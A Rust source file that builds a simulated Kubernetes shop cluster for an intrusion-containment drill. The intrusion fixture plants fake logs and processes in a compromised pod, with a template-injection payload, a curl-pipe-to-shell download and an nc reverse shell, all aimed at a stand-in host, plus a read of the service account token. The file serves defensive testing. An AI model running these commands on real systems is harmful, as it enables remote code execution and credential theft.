//! The drill's shop: two web pods behind a Service, one of them with an intruder inside; an API, a database, ordinary policies.

use std::collections::BTreeMap;

use chrono::{DateTime, Duration, SecondsFormat, Utc};
use serde_json::{Value, json};

use crate::port::{ClusterIdentity, Right};
use crate::reach::cluster::{
    ClusterSnapshot, Container, ContainerPort, Controller, Direction, DisruptionBudget,
    EndpointSlice, Labels, NetworkPolicy, Node, Operator, Pod, PolicyPeer, PolicyPort, PolicyRule,
    PortRef, Protocol, Requirement, SecretUse, Selector, Service, ServiceAccount, ServicePort,
};

use super::control;
use super::world::{Enforcing, FORMAT, Inside, Listener, Process, Template, World, owner, uid_of};

/// Namespace of the shop.
pub const NAMESPACE: &str = "shop";
/// The pod with the intruder inside.
pub const COMPROMISED: &str = "web-7d9f8c6b5d-x2x7q";
/// An outside address that answers on 443, for probes towards the Internet.
pub const OUTSIDE: &str = "203.0.113.20";
/// Where the intruder sits (documentation range).
const INTRUDER: &str = "198.51.100.10";
/// Image that canaries and probe pods may use, present on both nodes.
pub const PROBE_IMAGE: &str = "docker.io/library/busybox:1.37";
const NODES: [(&str, &str); 2] = [("ip-10-0-3-7", "10.0.3.7"), ("ip-10-0-4-12", "10.0.4.12")];

/// One workload of the shop.
struct Workload {
    app: &'static str,
    hash: &'static str,
    image: &'static str,
    port: (&'static str, u16),
    account: &'static str,
    secrets: &'static [(&'static str, &'static str)],
    /// Pod suffix and node.
    pods: &'static [(&'static str, usize)],
}

const WORKLOADS: [Workload; 3] = [
    Workload {
        app: "web",
        hash: "7d9f8c6b5d",
        image: "images.shop.example/web:4.2.1",
        port: ("http", 8080),
        account: "web",
        secrets: &[("web-session-key", "env"), ("payment-api-token", "volume")],
        pods: &[("x2x7q", 0), ("m4k9z", 0)],
    },
    Workload {
        app: "api",
        hash: "6c5b79d8f4",
        image: "images.shop.example/api:2.11.0",
        port: ("grpc", 9090),
        account: "api",
        secrets: &[("db-credentials", "envFrom")],
        pods: &[("k8s2v", 0), ("t9w4n", 1)],
    },
    Workload {
        app: "db",
        hash: "5f7bd69c48",
        image: "images.shop.example/postgres:17.2",
        port: ("postgres", 5432),
        account: "db",
        secrets: &[("db-credentials", "env")],
        pods: &[("r6m8j", 1)],
    },
];

/// The shop at `now`, with the intrusion of the last hour in its logs. `seed` makes this world's UIDs.
pub fn world_shop(now: DateTime<Utc>, seed: [u8; 16]) -> World {
    let seed: String = seed.iter().map(|b| format!("{b:02x}")).collect();
    let mut shop = Builder::new(now, &seed);
    shop.nodes();
    for workload in &WORKLOADS {
        shop.workload(workload);
    }
    shop.system();
    shop.policies();
    shop.intrusion();
    control::settle(&mut shop.world);
    shop.world
}

struct Builder {
    world: World,
    now: DateTime<Utc>,
}

impl Builder {
    fn new(now: DateTime<Utc>, seed: &str) -> Self {
        let namespaces = ["default", "kube-system", NAMESPACE]
            .into_iter()
            .map(|n| (n.to_owned(), labels(&[("kubernetes.io/metadata.name", n)])))
            .collect();
        let world = World {
            format: FORMAT.to_owned(),
            identity: ClusterIdentity {
                context: "sim".into(),
                server: format!("sim://shop-{}", &seed[..8]),
                uid: uid_of(&format!("{seed}/kube-system")),
                version: "v1.34.1".into(),
                user: Some("drill".into()),
            },
            cluster: ClusterSnapshot {
                namespaces,
                taken: now,
                ..ClusterSnapshot::default()
            },
            policy_annotations: BTreeMap::new(),
            inside: BTreeMap::new(),
            templates: BTreeMap::new(),
            events: Vec::new(),
            outside: vec![
                listener(INTRUDER, 4444),
                listener(OUTSIDE, 443),
                listener("169.254.169.254", 80),
                listener(NODES[0].1, 6443),
                listener("10.96.0.1", 443),
            ],
            plugin: Some("kube-router".into()),
            enforcing: Enforcing::Works,
            keeps_connections: false,
            behind: None,
            missing_rights: Vec::new(),
            roles: BTreeMap::from([(
                "ClusterRole/firebreak-contain".to_owned(),
                vec![
                    Right::new("", "pods", "patch"),
                    Right::new("networking.k8s.io", "networkpolicies", "create"),
                    Right::new("networking.k8s.io", "networkpolicies", "patch"),
                    Right::new("networking.k8s.io", "networkpolicies", "delete"),
                    Right::new("", "nodes", "patch"),
                ],
            )]),
            mutations: Vec::new(),
            faults: Vec::new(),
            calls: BTreeMap::new(),
            minted: 0,
        };
        Builder { world, now }
    }

    fn nodes(&mut self) {
        for (name, address) in NODES {
            let uid = self.world.mint_uid();
            self.world.cluster.nodes.push(Node {
                name: name.into(),
                uid,
                ips: vec![address.into()],
                ready: true,
                images: WORKLOADS
                    .iter()
                    .map(|w| w.image.to_owned())
                    .chain([PROBE_IMAGE.to_owned()])
                    .collect(),
                ..Node::default()
            });
        }
    }

    /// A ReplicaSet of a Deployment with its pods, Service, slice, budget and account.
    fn workload(&mut self, w: &Workload) {
        let name = format!("{}-{}", w.app, w.hash);
        let (deployment, set) = (self.world.mint_uid(), self.world.mint_uid());
        let selector = labels(&[("app", w.app), ("pod-template-hash", w.hash)]);
        self.world.cluster.controllers.push(Controller {
            kind: "ReplicaSet".into(),
            namespace: NAMESPACE.into(),
            name: name.clone(),
            uid: set.clone(),
            selector: Selector::labels(selector.clone()),
            replicas: u32::try_from(w.pods.len()).unwrap_or(1),
            owner: Some(owner("Deployment", w.app, &deployment)),
        });
        let inside = Inside {
            logs: BTreeMap::from([(w.app.to_owned(), self.ordinary_log(w.app))]),
            processes: vec![process(
                1,
                0,
                "app",
                &format!("/app/{}", w.app),
                &format!("/app/{} --port {}", w.app, w.port.1),
            )],
            listening: vec![w.port.1],
            ..Inside::default()
        };
        for (suffix, node) in w.pods {
            let pod = Pod {
                name: format!("{name}-{suffix}"),
                uid: self.world.mint_uid(),
                ips: vec![self.world.mint_address(NODES[*node].0)],
                owner: Some(owner("ReplicaSet", &name, &set)),
                ..self.pod_of(w, *node, selector.clone())
            };
            self.world.inside.insert(pod.uid.clone(), inside.clone());
            self.world.cluster.pods.push(pod);
        }
        let node = w.pods.first().map_or(0, |p| p.1);
        let pod = self.pod_of(w, node, selector);
        let inside = Inside {
            logs: BTreeMap::from([(
                w.app.to_owned(),
                format!("{} level=info msg=\"started\"\n", self.at(0)),
            )]),
            ..inside
        };
        self.world.templates.insert(set, Template { pod, inside });
        self.service(
            NAMESPACE,
            w.app,
            w.port.1,
            Protocol::Tcp,
            Some(labels(&[("app", w.app)])),
        );
        self.world
            .cluster
            .disruption_budgets
            .push(DisruptionBudget {
                namespace: NAMESPACE.into(),
                name: w.app.into(),
                selector: Some(Selector::labels(labels(&[("app", w.app)]))),
                allowed: i32::try_from(w.pods.len()).unwrap_or(1) - 1,
            });
        let role = format!("arn:aws:iam::111122223333:role/shop-{}", w.account);
        self.world.cluster.service_accounts.push(ServiceAccount {
            namespace: NAMESPACE.into(),
            name: w.account.into(),
            annotations: labels(&[("eks.amazonaws.com/role-arn", role.as_str())]),
            image_pull_secrets: vec!["shop-images".into()],
        });
    }

    fn pod_of(&mut self, w: &Workload, node: usize, mut pod_labels: Labels) -> Pod {
        pod_labels.insert("app.kubernetes.io/part-of".into(), "shop".into());
        let container_id = self.world.mint_uid().replace('-', "");
        Pod {
            namespace: NAMESPACE.into(),
            labels: pod_labels,
            node: NODES[node].0.into(),
            host_ip: NODES[node].1.into(),
            phase: "Running".into(),
            ready: true,
            service_account: w.account.into(),
            containers: vec![Container {
                name: w.app.into(),
                image: w.image.into(),
                image_id: format!("sha256:{}", uid_of(w.image).replace('-', "").repeat(2)),
                container_id: format!("containerd://{container_id}"),
                ports: vec![ContainerPort {
                    name: w.port.0.into(),
                    port: w.port.1,
                    protocol: Protocol::Tcp,
                }],
                running: true,
                ..Container::default()
            }],
            secrets: w
                .secrets
                .iter()
                .map(|(name, how)| SecretUse {
                    name: (*name).into(),
                    how: (*how).into(),
                })
                .collect(),
            ..Pod::default()
        }
    }

    fn service(
        &mut self,
        namespace: &str,
        name: &str,
        port: u16,
        protocol: Protocol,
        selector: Option<Labels>,
    ) {
        let cluster_ip = match name {
            "kubernetes" => "10.96.0.1".to_owned(),
            "kube-dns" => "10.96.0.10".to_owned(),
            _ => format!("10.96.17.{}", 10 + self.world.cluster.services.len()),
        };
        self.world.cluster.services.push(Service {
            namespace: namespace.into(),
            name: name.into(),
            selector,
            cluster_ip,
            ports: vec![ServicePort {
                port,
                target: None,
                protocol,
            }],
        });
        let slice = format!("{name}-{}", self.world.mint_suffix());
        self.world.cluster.endpoint_slices.push(EndpointSlice {
            namespace: namespace.into(),
            name: slice,
            service: name.into(),
            endpoints: Vec::new(),
        });
    }

    /// The API server's Service, cluster DNS and the network plugin.
    fn system(&mut self) {
        self.service("default", "kubernetes", 443, Protocol::Tcp, None);
        self.service(
            "kube-system",
            "kube-dns",
            53,
            Protocol::Udp,
            Some(labels(&[("k8s-app", "kube-dns")])),
        );
        self.system_pod("coredns-66bc5c9577-h5q2d", "coredns", "kube-dns", 1, 53);
        self.system_pod("kube-router-4xk7c", "kube-router", "kube-router", 0, 20244);
        self.system_pod("kube-router-9zb2m", "kube-router", "kube-router", 1, 20244);
    }

    fn system_pod(&mut self, name: &str, container: &str, app: &str, node: usize, port: u16) {
        let host_network = container == "kube-router";
        let (node_name, host_ip) = NODES[node];
        let address = if host_network {
            host_ip.to_owned()
        } else {
            self.world.mint_address(node_name)
        };
        let uid = self.world.mint_uid();
        self.world.inside.insert(
            uid.clone(),
            Inside {
                listening: vec![port],
                bare_image: true,
                ..Inside::default()
            },
        );
        self.world.cluster.pods.push(Pod {
            namespace: "kube-system".into(),
            name: name.into(),
            uid,
            labels: labels(&[("k8s-app", app)]),
            node: node_name.into(),
            ips: vec![address],
            host_ip: host_ip.into(),
            phase: "Running".into(),
            ready: true,
            host_network,
            service_account: app.into(),
            containers: vec![Container {
                name: container.into(),
                image: format!("images.shop.example/{container}:stable"),
                running: true,
                ..Container::default()
            }],
            ..Pod::default()
        });
    }

    /// Ingress is closed by default; each tier opens to the one before it. Egress is open everywhere: the intruder's way out.
    fn policies(&mut self) {
        self.policy("default-deny-ingress", Selector::default(), Vec::new());
        let app = |name: &str| Selector::labels(labels(&[("app", name)]));
        let from = |name: &str| {
            vec![PolicyPeer::Pods {
                namespaces: None,
                pods: Some(app(name)),
            }]
        };
        self.policy(
            "allow-web",
            app("web"),
            vec![rule(PortRef::Name("http".into()), Vec::new())],
        );
        self.policy(
            "allow-api-from-web",
            app("api"),
            vec![rule(PortRef::Number(9090), from("web"))],
        );
        let tiers = Selector {
            match_labels: Labels::new(),
            expressions: vec![Requirement {
                key: "app".into(),
                operator: Operator::In,
                values: vec!["db".into()],
            }],
        };
        self.policy(
            "allow-db-from-api",
            tiers,
            vec![rule(PortRef::Number(5432), from("api"))],
        );
    }

    fn policy(&mut self, name: &str, pod_selector: Selector, ingress: Vec<PolicyRule>) {
        let uid = self.world.mint_uid();
        self.world.cluster.policies.push(NetworkPolicy {
            namespace: NAMESPACE.into(),
            name: name.into(),
            uid,
            labels: labels(&[("app.kubernetes.io/part-of", "shop")]),
            pod_selector,
            policy_types: Some(vec![Direction::Ingress]),
            ingress,
            egress: Vec::new(),
        });
    }

    /// What the intruder left in the compromised pod.
    fn intrusion(&mut self) {
        let Some(pod) = self.world.pod_mut(NAMESPACE, COMPROMISED) else {
            return;
        };
        for container in &mut pod.containers {
            container.restarts = 1;
        }
        let (uid, address) = (
            pod.uid.clone(),
            pod.ips.first().cloned().unwrap_or_default(),
        );
        let (log, before) = (self.intrusion_log(), self.crash_log());
        self.world.events = vec![
            self.event(
                &uid,
                47,
                "Warning",
                "BackOff",
                "Back-off restarting failed container web",
            ),
            self.event(&uid, 46, "Normal", "Started", "Started container web"),
        ];
        if let Some(inside) = self.world.inside.get_mut(&uid) {
            inside.logs.insert("web".into(), log);
            inside.previous_logs.insert("web".into(), before);
            inside.established = vec![format!("{address}:41234 → {INTRUDER}:4444")];
            inside.processes.extend([
                process(
                    61,
                    1,
                    "app",
                    "/bin/sh",
                    "sh -c curl -fsS http://198.51.100.10/x.sh|sh",
                ),
                process(64, 61, "app", "/bin/sh", "/bin/sh -i"),
                process(
                    97,
                    1,
                    "app",
                    "/tmp/.cache/kworkerd",
                    "/tmp/.cache/kworkerd -o 198.51.100.10:4444 -B",
                ),
            ]);
        }
    }

    fn ordinary_log(&self, app: &str) -> String {
        (1..=40)
            .map(|n| {
                let at = self.at(60 - n);
                format!(
                    "{at} level=info app={app} method=GET path=/{}/{n} status=200 took_ms={}\n",
                    ["cart", "items", "health"][(n % 3) as usize],
                    3 + n % 17
                )
            })
            .collect()
    }

    fn intrusion_log(&self) -> String {
        let lines = [
            (
                44,
                "level=info app=web method=POST path=/import status=200 client=198.51.100.10 took_ms=31",
            ),
            (
                43,
                "level=warn app=web msg=\"template rendered with untrusted expression\" client=198.51.100.10 expr=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"",
            ),
            (43, "uid=1000(app) gid=1000(app) groups=1000(app)"),
            (
                42,
                "level=warn app=web msg=\"child process\" argv=\"sh -c curl -fsS http://198.51.100.10/x.sh|sh\"",
            ),
            (42, "sh: can't access tty; job control turned off"),
            (41, "+ mkdir -p /tmp/.cache"),
            (
                41,
                "+ curl -fsS -o /tmp/.cache/kworkerd http://198.51.100.10/kworkerd",
            ),
            (41, "+ chmod 0700 /tmp/.cache/kworkerd"),
            (40, "+ /tmp/.cache/kworkerd -o 198.51.100.10:4444 -B"),
            (
                39,
                "+ cat /var/run/secrets/kubernetes.io/serviceaccount/token | head -c 16",
            ),
            (38, "+ nc 198.51.100.10 4444 -e /bin/sh"),
            (
                37,
                "level=error app=web msg=\"upstream api refused\" path=/admin/export status=403 client=198.51.100.10",
            ),
        ];
        let intrusion = lines
            .map(|(ago, text)| format!("{} {text}\n", self.at(ago)))
            .concat();
        let mut all: Vec<String> = (self.ordinary_log("web") + &intrusion)
            .split_inclusive('\n')
            .map(str::to_owned)
            .collect();
        // By minute only: lines of one minute keep the order in which they were said.
        all.sort_by(|a, b| a[..16].cmp(&b[..16]));
        all.concat()
    }

    fn crash_log(&self) -> String {
        format!(
            "{} level=error app=web msg=\"template engine panicked\" client=198.51.100.10 path=/import\n{} level=fatal app=web msg=\"exit 2\"\n",
            self.at(48),
            self.at(48)
        )
    }

    fn event(&self, uid: &str, ago: i64, kind: &str, reason: &str, message: &str) -> Value {
        json!({
            "apiVersion": "v1", "kind": "Event",
            "metadata": {"namespace": NAMESPACE, "name": format!("{COMPROMISED}.{ago:x}")},
            "involvedObject": {"kind": "Pod", "namespace": NAMESPACE, "name": COMPROMISED, "uid": uid},
            "type": kind, "reason": reason, "message": message, "lastTimestamp": self.at(ago),
        })
    }

    fn at(&self, minutes_ago: i64) -> String {
        (self.now - Duration::minutes(minutes_ago)).to_rfc3339_opts(SecondsFormat::Nanos, true)
    }
}

fn rule(port: PortRef, peers: Vec<PolicyPeer>) -> PolicyRule {
    PolicyRule {
        ports: vec![PolicyPort {
            port: Some(port),
            ..PolicyPort::default()
        }],
        peers,
    }
}

fn process(pid: u32, parent: u32, user: &str, exe: &str, command: &str) -> Process {
    Process {
        pid,
        parent,
        user: user.into(),
        exe: exe.into(),
        command: command.into(),
    }
}

fn listener(address: &str, port: u16) -> Listener {
    Listener {
        address: address.into(),
        port,
    }
}

fn labels(pairs: &[(&str, &str)]) -> Labels {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}
